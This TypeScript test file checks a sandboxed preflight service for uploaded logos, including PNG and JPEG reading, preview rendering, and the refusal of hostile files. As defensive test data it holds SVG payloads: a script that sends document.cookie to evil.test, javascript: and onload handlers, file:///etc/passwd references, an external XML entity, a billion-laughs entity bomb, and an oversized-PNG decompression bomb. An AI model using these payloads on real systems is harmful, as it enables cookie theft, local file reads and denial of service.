/**
 * docs/decisions/044-raster-and-svg-artwork.md: PNG, JPEG and SVG logos are read
 * only in the sandbox (decision 032), by the built worker as the server runs it. Hostile files
 * (an SVG with a script, an external link or an entity bomb; a PNG that claims 2.5 gigapixels) are
 * refused there, within the box's limits, and the server never parses them.
 */
import { createCanvas, loadImage } from "@napi-rs/canvas";
import { describe, expect, it, vi } from "vitest";
import { PREFLIGHT_MESSAGES } from "~/domain/artwork/preflight";
import { greyPng } from "../../../tests/setup/artwork-corpus";
import { sandboxAvailable } from "./preflight-sandbox.server";
import { type PreflightResult, runPreflight } from "./preflight.server";

vi.setConfig({ testTimeout: 30_000 });
const boxed = await sandboxAvailable();
const text = (svg: string) => new TextEncoder().encode(svg);

/** A logo drawn by the canvas: a red bar on transparency (PNG) or on white (JPEG). */
function logo(width: number, height: number, mime: "image/png" | "image/jpeg"): Uint8Array {
  const canvas = createCanvas(width, height);
  const context = canvas.getContext("2d");
  if (mime === "image/jpeg") {
    context.fillStyle = "#ffffff";
    context.fillRect(0, 0, width, height);
  }
  context.fillStyle = "#d00000";
  context.fillRect(width / 4, height / 4, width / 2, height / 2);
  return new Uint8Array(mime === "image/png" ? canvas.toBuffer("image/png") : canvas.toBuffer("image/jpeg"));
}

function answered(result: PreflightResult) {
  if (!result.ok) throw new Error(`no answer: ${JSON.stringify(result)}`);
  return result;
}
async function timed(kind: Parameters<typeof runPreflight>[0], bytes: Uint8Array) {
  const started = performance.now();
  const result = await runPreflight(kind, bytes);
  console.info(
    `[figures] ${kind} of ${bytes.byteLength} bytes answered in ${Math.round(performance.now() - started)} ms`,
  );
  return result;
}

describe.skipIf(!boxed)("PNG and JPEG logos in the sandbox", () => {
  it("reads a transparent PNG's pixels, alpha and colours, and draws its preview on a checkerboard", async () => {
    const result = answered(await timed("png", logo(1181, 650, "image/png")));
    expect(result.report).toEqual({
      kind: "raster",
      format: "png",
      widthPx: 1181,
      heightPx: 650,
      ppi: null,
      alpha: true,
      colours: { rgb: true, cmyk: false, gray: false, spot: [] },
    });
    const preview = await loadImage(Buffer.from(result.preview!));
    expect([preview.width, preview.height]).toEqual([800, 440]);
    const context = createCanvas(800, 440).getContext("2d");
    context.drawImage(preview, 0, 0);
    // The logo's red in the middle; the transparent corner shows the checkerboard's grey and white squares.
    expect([...context.getImageData(400, 220, 1, 1).data]).toEqual([208, 0, 0, 255]);
    expect([...context.getImageData(2, 2, 1, 1).data]).toEqual([230, 230, 230, 255]);
    expect([...context.getImageData(18, 2, 1, 1).data]).toEqual([255, 255, 255, 255]);
  });

  it("reads a JPEG as opaque RGB", async () => {
    const result = answered(await timed("jpeg", logo(600, 300, "image/jpeg")));
    expect(result.report).toMatchObject({ kind: "raster", format: "jpeg", widthPx: 600, heightPx: 300, alpha: false });
    expect(result.report).toMatchObject({ colours: { rgb: true, cmyk: false, gray: false } });
    const preview = await loadImage(Buffer.from(result.preview!));
    const context = createCanvas(600, 300).getContext("2d");
    context.drawImage(preview, 0, 0);
    const [red, green] = context.getImageData(300, 150, 1, 1).data;
    expect(red).toBeGreaterThan(190);
    expect(green).toBeLessThan(30);
  });

  it("refuses a PNG claiming 50,000 × 50,000 px from its header, before decoding a pixel", async () => {
    const bomb = greyPng(50_000, 50_000, 1);
    expect(bomb.byteLength).toBeLessThan(1024);
    const result = answered(await timed("png", bomb));
    expect(result.report).toEqual({ kind: "unreadable", reason: "too_many_pixels" });
    expect(result.preview).toBeNull();
    expect(PREFLIGHT_MESSAGES.too_many_pixels).toMatch(/over 100 megapixels/);
  });

  it("answers a PNG of 96 megapixels (under the limit, 384 MB decoded) within the box's limits", async () => {
    const heavy = greyPng(12_000, 8_000);
    const result = await timed("png", heavy);
    console.info(
      `[figures] 12000 × 8000 px PNG of ${heavy.byteLength} bytes: ${JSON.stringify(result.ok ? result.report : result)}`,
    );
    // Measured at 1.1 s with its report; on a busier machine it may run into the CPU limit instead.
    if (result.ok) expect(result.report.kind).toBe("raster");
    else expect(result).toMatchObject({ overLimit: expect.stringMatching(/^(cpu|memory|time)$/) });
  });

  it("refuses a PNG renamed .jpg, and a PNG cut short, as damaged", async () => {
    expect(answered(await runPreflight("jpeg", logo(100, 50, "image/png"))).report).toEqual({
      kind: "unreadable",
      reason: "damaged",
    });
    const whole = logo(100, 50, "image/png");
    for (const cut of [30, whole.byteLength - 20]) {
      expect(answered(await runPreflight("png", whole.subarray(0, cut))).report).toEqual({
        kind: "unreadable",
        reason: "damaged",
      });
    }
    const jpeg = logo(100, 50, "image/jpeg");
    expect(answered(await runPreflight("jpeg", jpeg.subarray(0, jpeg.byteLength - 40))).report).toEqual({
      kind: "unreadable",
      reason: "damaged",
    });
  });
});

const SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svgOf = (body: string, attributes = 'width="100mm" height="55mm" viewBox="0 0 200 110"') =>
  text(`<?xml version="1.0" encoding="UTF-8"?>\n<svg ${SVG_NS} ${attributes}>${body}</svg>`);
const RECT = '<rect x="50" y="25" width="100" height="60" fill="#0000ff"/>';

describe.skipIf(!boxed)("SVG logos in the sandbox", () => {
  it("reads its size in millimetres and draws it at the preview's size", async () => {
    const result = answered(await timed("svg", svgOf(RECT)));
    expect(result.report).toEqual({
      kind: "svg",
      size: { widthMm: 100, heightMm: 55 },
      raster: false,
      colours: { rgb: true, cmyk: false, gray: false, spot: [] },
    });
    const preview = await loadImage(Buffer.from(result.preview!));
    expect([preview.width, preview.height]).toEqual([800, 440]);
    const context = createCanvas(800, 440).getContext("2d");
    context.drawImage(preview, 0, 0);
    expect([...context.getImageData(400, 220, 1, 1).data]).toEqual([0, 0, 255, 255]);
  });

  it("accepts Illustrator's DOCTYPE with an outside DTD it never fetches, and a viewBox-only size", async () => {
    const illustrator = text(
      `<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg ${SVG_NS} viewBox="0 0 96 48">${RECT}</svg>`,
    );
    const result = answered(await runPreflight("svg", illustrator));
    expect(result.report).toEqual({
      kind: "svg",
      size: { widthMm: 25.4, heightMm: 12.7 },
      raster: false,
      colours: { rgb: true, cmyk: false, gray: false, spot: [] },
    });
  });

  it("draws an SVG claiming to be 100 m wide at 800 px, never at its own size", async () => {
    const result = answered(await timed("svg", svgOf(RECT, 'width="100000mm" height="50000mm" viewBox="0 0 200 100"')));
    const preview = await loadImage(Buffer.from(result.preview!));
    expect([preview.width, preview.height]).toEqual([800, 400]);
  });

  const laughs = [
    '<!DOCTYPE svg [<!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`),
    "]>",
  ].join("\n");
  it.each([
    ["a script element", svgOf(`<script>fetch("https://evil.test/?c="+document.cookie)</script>${RECT}`), "svg_script"],
    ["an onload handler", svgOf(RECT, 'width="10mm" height="10mm" onload="alert(1)"'), "svg_script"],
    ["a javascript: link", svgOf(`<a href="javascript:alert(1)">${RECT}</a>`), "svg_script"],
    ["HTML in foreignObject", svgOf('<foreignObject><iframe src="x"/></foreignObject>'), "svg_script"],
    [
      "a link animated to javascript:",
      svgOf('<a><set attributeName="href" to="&#106;avascript:alert(1)"/></a>'),
      "svg_script",
    ],
    [
      "an image from the web",
      svgOf('<image href="https://evil.test/pixel.png" width="10" height="10"/>'),
      "svg_external",
    ],
    ["a file of the host", svgOf('<image xlink:href="file:///etc/passwd" width="10" height="10"/>'), "svg_external"],
    ["an entity-encoded link", svgOf('<use href="&#104;ttp://evil.test/a.svg#x"/>'), "svg_external"],
    ["a CSS import", svgOf('<style>@import "https://evil.test/a.css";</style>'), "svg_external"],
    [
      "a CSS url() from the web",
      svgOf(`<style>rect{fill:url(https://evil.test/p.svg#g)}</style>${RECT}`),
      "svg_external",
    ],
    ["a CSS escape spelling url", svgOf(`<style>rect{fill:\\75rl(https://evil.test/)}</style>${RECT}`), "svg_external"],
    [
      "an xml-stylesheet",
      text(`<?xml-stylesheet href="https://evil.test/a.css"?><svg ${SVG_NS}>${RECT}</svg>`),
      "svg_external",
    ],
    [
      "a billion laughs",
      text(`<?xml version="1.0"?>\n${laughs}\n<svg ${SVG_NS}><text>&lol9;</text></svg>`),
      "svg_entities",
    ],
    [
      "an outside entity",
      text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG_NS}><text>&x;</text></svg>`),
      "svg_entities",
    ],
  ] as const)("refuses %s", async (_, bytes, reason) => {
    const result = answered(await timed("svg", bytes));
    expect(result).toEqual({ ok: true, report: { kind: "unreadable", reason }, preview: null });
  });

  it("keeps an embedded data: image and says so, and refuses an embedded SVG (which could hold a script)", async () => {
    const dot = Buffer.from(logo(4, 4, "image/png")).toString("base64");
    const embedded = answered(
      await runPreflight("svg", svgOf(`<image href="data:image/png;base64,${dot}" width="200" height="110"/>`)),
    );
    expect(embedded.report).toMatchObject({ kind: "svg", raster: true });
    const nested = answered(await runPreflight("svg", svgOf('<image href="data:image/svg+xml;base64,PHN2Zz4=" />')));
    expect(nested.report).toEqual({ kind: "unreadable", reason: "svg_external" });
  });

  it("refuses text that is not UTF-8, and markup that is not an SVG, as damaged", async () => {
    expect(answered(await runPreflight("svg", Uint8Array.of(0x3c, 0x73, 0x76, 0x67, 0xff, 0x3e))).report).toEqual({
      kind: "unreadable",
      reason: "damaged",
    });
    expect(answered(await runPreflight("svg", text("<svg <<<"))).report).toEqual({
      kind: "unreadable",
      reason: "damaged",
    });
  });
});
